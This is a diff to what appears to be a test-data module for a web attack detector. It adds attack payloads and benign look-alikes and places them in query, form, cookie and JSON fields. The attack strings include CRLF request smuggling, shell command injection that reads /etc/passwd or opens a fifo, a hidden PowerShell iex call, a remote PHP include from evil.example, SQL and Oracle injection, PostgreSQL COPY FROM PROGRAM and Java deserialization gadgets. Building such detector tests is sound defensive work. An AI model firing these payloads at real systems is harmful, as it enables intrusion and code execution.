@@ -277,6 +277,28 @@ ADDED_CLASS_BENIGN = [
     "powershell -command help",
 ]
 
+# Classes and spellings added with their signatures after the fifth set (not a holdout):
+# smuggled request and status lines, more reconnaissance commands, PHP and Node code forms,
+# JSFuck, PostgreSQL COPY ... PROGRAM, Oracle packages, Java gadget classes.
+ADDED_LATER_ATTACKS = [
+    "x%0d%0aGET /admin HTTP/1.1", "x%0d%0a%0d%0aHTTP/1.1 200 OK", ";find / -name passwd",
+    ";tar cf /tmp/x /etc", ";kill -9 1", ";env", ";mkfifo /tmp/f", ";crontab -l", ";sudo -l",
+    ";ps aux", "&tasklist", ";wmic process list", ";reg query HKLM",
+    "powershell -nop -w hidden -c \"iex\"", "(system)('id')", "include('http://evil.example/x.txt')",
+    "__halt_compiler();", "_$$ND_FUNC$$_function(){}()", "new Function('return this')()",
+    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", "1'='1", "'='", "copy t from program 'id'",
+    "1 AND 5651=CTXSYS.DRITHSX.SN(5651,(CHR(113)))", "class.classLoader.URLs[0]=x",
+    "x=javax.script.ScriptEngineManager", "x=org.apache.commons.collections.functors.InvokerTransformer",
+]
+ADDED_LATER_BENIGN = [
+    "public int Id { get; set; }", "art; history; science", "set; reset; go", "ps aux explained",
+    "find / -name file linux", "kill -9 meaning", "env vars in docker", "tar cf vs tar czf",
+    "new Function() in JavaScript", "process.env.NODE_ENV", "global.process in node",
+    "GET /api/items HTTP/1.1 example", "HTTP/1.1 200 OK meaning", "1=1", "a = 'b'",
+    "regexp tutorial", "rlike vs like", "db.collection.find() docs", "$gt operator mongodb",
+]
+
+
 def attacks() -> list[Entry]:
     """Return the attack requests."""
     out: list[Entry] = [_arg("holdout", payload, "q", "/s") for payload in HOLDOUT_ATTACKS]
@@ -358,6 +380,8 @@ def attacks() -> list[Entry]:
                               ("../../../var/www/html/x.php", b"x"), ("doc.jsp", b"<% out.println(1); %>")):
         out.append(("upload", "POST", "/upload", {**BROWSER, "content-type": _UPLOAD},
                     _multipart([("file", filename, content)])))
+    out += [_located("added", value, where) for value in ADDED_LATER_ATTACKS
+            for where in ("query", "form", "cookie")]
     return out + located_attacks() + fresh_attacks()
 
 
@@ -455,6 +479,8 @@ def benign() -> list[Entry]:
                   "Chrome/124.0 Safari/537.36 Edg/124.0",
                   "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"):
         out.append(_get("benign", "/", {"user-agent": agent}))
+    out += [_located("benign", value, where) for value in ADDED_LATER_BENIGN
+            for where in ("query", "form", "json")]
     return out + located_benign() + benign_requests() + fresh_benign()
 
 
